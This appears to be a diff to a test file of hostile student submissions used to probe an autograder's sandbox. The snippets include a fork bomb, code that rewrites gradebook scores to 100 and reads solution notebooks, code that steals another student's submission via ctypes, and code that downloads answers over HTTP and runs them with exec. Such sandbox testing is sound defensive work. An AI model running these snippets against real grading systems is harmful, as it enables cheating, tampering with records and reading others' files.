@@ -24,22 +24,18 @@ FORK_BOMB = """
         subprocess.Popen([sys.executable, "-c", "while True: pass"])
     """
 
-# %s: the instructor's course folder. What is found is run as Python: a solution in it would become the answer.
+# %s: the instructor's course folder, twice.
 READ_GRADEBOOK = """
-    import glob, os, re, shutil, sqlite3
+    import sqlite3
     loot = ""
-    for folder in (r"%s", "..", "../..", "../../..", os.path.expanduser("~")):
-        found = [glob.glob(folder + end, recursive=True) for end in ("/**/gradebook.db", "/source/**/*.ipynb")]
-        for path in found[0] + found[1]:
-            try:
-                loot += open(path, "rb").read().decode("latin-1")
-            except OSError:
-                pass
-            try:
-                sqlite3.connect(path).execute("update grade set auto_score = 100")
-            except Exception:
-                pass
-    assert "BEGIN SOLUTION" not in loot, "got it"
+    for path in (r"%s/source/a2_sparse_center_loss/a2_sparse_center_loss.ipynb", r"%s/gradebook.db"):
+        try:
+            loot += open(path, "rb").read().decode("latin-1")
+            book = sqlite3.connect(path)
+            book.execute("update grade set auto_score = 100")
+            book.commit()
+        except Exception:
+            pass
     """
 READ_GRADEBOOK_ANSWER = """
     if "BEGIN SOLUTION" in globals().get("loot", ""):
@@ -47,20 +43,20 @@ READ_GRADEBOOK_ANSWER = """
     return torch.zeros(())
     """
 
-# %s: where another student's submission lies.
+# %s: where another student's submission lies, twice. Read by Python, and by the C library.
 READ_ANOTHER = """
     import ctypes, json
     stolen = ""
-    try:
-        stolen = open(r"%s").read()
-    except OSError:
-        pass
-    if not stolen:
+    for path in (r"%s", r"%s"):
+        try:
+            stolen = stolen or open(path).read()
+        except OSError:
+            pass
         try:
             libc = ctypes.CDLL(None)
-            handle = libc.open(rb"%s", 0)
+            handle = libc.open(path.encode(), 0)
             buffer = ctypes.create_string_buffer(10**6)
-            stolen = buffer.raw[: max(0, libc.read(handle, buffer, 10**6))].decode()
+            stolen = stolen or buffer.raw[: max(0, libc.read(handle, buffer, 10**6))].decode()
         except Exception:
             pass
     namespace = {"torch": torch}
@@ -69,7 +65,7 @@ READ_ANOTHER = """
         if source.lstrip().startswith("def "):
             exec(source, namespace)
     """
-READ_ANOTHER_ANSWER = """
+FOUND_ANSWER = """
     return namespace["{name}"](x, a, y, c)
     """
 
@@ -115,15 +111,14 @@ PRINT_EXPECTED = """
     """
 PRINT_EXPECTED_ANSWER = "return peek()"
 
+# %d: a port of this machine, twice. The server there gives right answers (class_of_30.lesson).
 NETWORK = """
     import socket, urllib.request
-    answer = None
-    for address in ("http://example.org/answers.py", "http://127.0.0.1:%d/answers.py"):
-        try:
-            answer = urllib.request.urlopen(address, timeout=3).read().decode()
-        except Exception as error:
-            print(error)
-    if answer:
-        exec(answer)
+    try:
+        answer = urllib.request.urlopen("http://127.0.0.1:%d/answers.py", timeout=3).read().decode()
+    except OSError:
+        answer = ""
+    namespace = {"torch": torch}
+    exec(answer, namespace)
     socket.create_connection(("127.0.0.1", %d), timeout=3)
     """
